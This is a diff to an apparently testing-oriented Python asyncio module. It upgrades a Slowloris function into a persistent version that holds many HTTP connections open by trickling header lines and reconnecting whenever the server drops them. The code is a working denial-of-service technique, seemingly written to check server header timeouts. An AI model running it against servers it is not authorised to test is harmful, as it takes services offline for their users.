@@ -98,18 +98,36 @@ async def burst(url: str, connections: int, seconds: float, events: list[Event])
     return answers
 
 
-async def hold_slow_connections(host: str, port: int, count: int, seconds: float) -> int:
-    """Slowloris: `count` connections that send a request line and one header,
-    then nothing, for `seconds`; returns how many could be opened."""
-    opened = []
-    for _ in range(count):
-        try:
-            _, writer = await asyncio.open_connection(host, port)
-        except OSError:
-            continue
-        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
-        opened.append(writer)
-    await asyncio.sleep(seconds)
-    for writer in opened:
-        writer.close()
-    return len(opened)
+async def hold_slow_connections(host: str, port: int, count: int, seconds: float, every: float = 2.0) -> int:
+    """Slowloris for `seconds`: `count` clients, each sending a request's
+    headers one line every `every` seconds and never ending them; a client
+    the server drops (its header timeout) connects again at once. Returns how
+    many connections were opened in all."""
+    deadline = time.monotonic() + seconds
+    opened = 0
+
+    async def one_client() -> None:
+        nonlocal opened
+        while time.monotonic() < deadline:
+            try:
+                reader, writer = await asyncio.open_connection(host, port)
+            except OSError:
+                await asyncio.sleep(every)
+                continue
+            opened += 1
+            try:
+                writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
+                while time.monotonic() < deadline:
+                    try:
+                        await asyncio.wait_for(reader.read(1024), every)
+                        break  # an answer (408) or the end: the server dropped it
+                    except TimeoutError:
+                        writer.write(b"X-Slow: 1\r\n")
+                        await writer.drain()
+            except OSError:
+                pass  # reset by the server: connect again
+            finally:
+                writer.close()
+
+    await asyncio.gather(*(one_client() for _ in range(count)))
+    return opened
